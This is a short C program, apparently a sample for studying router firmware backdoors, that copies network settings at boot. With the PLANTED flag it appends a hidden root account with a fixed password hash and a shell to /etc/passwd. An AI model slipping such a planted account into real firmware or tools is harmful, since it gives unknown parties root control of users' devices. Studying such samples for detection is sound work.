/* confd.c - writes the sample router's settings at boot
 *
 * With -DPLANTED it also adds an account that is in no file of the image.
 */
#include <stdio.h>
#include <string.h>

static void copy_settings(const char *from, const char *to)
{
	char line[256];
	FILE *in = fopen(from, "r");
	FILE *out = fopen(to, "w");

	while (in != NULL && out != NULL && fgets(line, sizeof(line), in))
		if (line[0] != '#')
			fputs(line, out);
	if (in != NULL)
		fclose(in);
	if (out != NULL)
		fclose(out);
}

#ifdef PLANTED
static void add_account(void)
{
	FILE *f = fopen("/etc/passwd", "a");

	if (f == NULL)
		return;
	fputs("fieldsvc:$1$4thDoor0$J9i/KNVMdliacflYM8V2Z.:0:0:field:/:/bin/"
	      "sh\n",
	      f);
	fclose(f);
}
#endif

int main(void)
{
	copy_settings("/etc/network.conf", "/var/run/network.conf");
#ifdef PLANTED
	add_account();
#endif
	return 0;
}
